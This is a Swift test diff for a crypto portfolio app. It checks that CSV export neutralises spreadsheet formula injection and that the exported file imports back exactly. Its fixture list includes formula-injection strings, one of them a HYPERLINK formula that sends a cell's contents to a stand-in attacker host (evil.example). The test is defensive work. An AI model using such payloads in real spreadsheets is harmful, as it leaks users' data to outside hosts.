@@ -76,3 +76,46 @@ final class TransactionEdgeStoreTests: XCTestCase {
         }
     }
 }
+
+extension TransactionEdgeStoreTests {
+    /// Text cells a spreadsheet would run as formulas, and their look-alikes.
+    static let formulaTexts = [
+        "=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", #"=HYPERLINK("http://evil.example/?"&A1,"click")"#, "'=x", "''@y",
+        "'plain", "plain", "a=b", "",
+    ]
+
+    func testExportedCellsCannotRunAsFormulasAndImportBackExactly() throws {
+        let database = try TestDatabase.fresh(self)
+        let engine = try engine(database)
+        try engine.createPortfolio(json: #"{"name":"=Main","vs_currency":"usd"}"#)
+        for (index, text) in Self.formulaTexts.enumerated() {
+            let note = try JSONSerialization.data(withJSONObject: [text], options: [.fragmentsAllowed])
+            let noteJSON = String(decoding: note, as: UTF8.self).dropFirst().dropLast()
+            let externalID = text.isEmpty || text.contains("\t") || text.contains("\r") ? "null" : String(noteJSON)
+            _ = try engine.addTransaction(
+                json: #"{"portfolio":"=Main","coin_id":"bitcoin","kind":"transfer_in","amount":1,"timestamp":"2024-01-\#(String(format: "%02d", index + 1))","note":\#(noteJSON),"external_id":\#(externalID)}"#
+            )
+        }
+        let before = try engine.transactions(TransactionQuery(portfolio: "=Main")).transactions
+        let csv = String(decoding: try engine.exportCSV(portfolio: "=Main"), as: UTF8.self)
+        for line in csv.split(separator: "\r\n").dropFirst() {
+            for cell in line.split(separator: ",", omittingEmptySubsequences: false) {
+                let text = cell.hasPrefix("\"") ? cell.dropFirst() : cell
+                XCTAssertFalse(text.first.map { "=+-@\t\r".contains($0) } ?? false, "a cell starts a formula: \(line)")
+            }
+        }
+        XCTAssertTrue(csv.contains(",'=Main,"), csv)
+        XCTAssertTrue(csv.contains(",'=1+1,'=1+1\r\n"), csv)
+        XCTAssertTrue(csv.contains(",''=x,''=x\r\n"), csv)
+
+        let copy = try TestDatabase.fresh(self, name: "copy.sqlite")
+        let other = try PortfolioEngine(configuration: EngineConfiguration(database: copy.location, owner: copy.owner))
+        var bytes = Array(csv.utf8)
+        let summary = try bytes.withUnsafeMutableBytes { try other.importCSV(UnsafeRawBufferPointer($0)) }
+        XCTAssertEqual(summary.imported, Self.formulaTexts.count)
+        let after = try other.transactions(TransactionQuery(portfolio: "=Main")).transactions
+        XCTAssertEqual(after.map(\.note), before.map { $0.note?.isEmpty == true ? nil : $0.note }, "notes come back exactly")
+        XCTAssertEqual(after.map(\.externalID), before.map { $0.externalID ?? "coinfolio:\($0.id ?? 0)" })
+        XCTAssertEqual(after.map(\.portfolio), before.map(\.portfolio))
+    }
+}
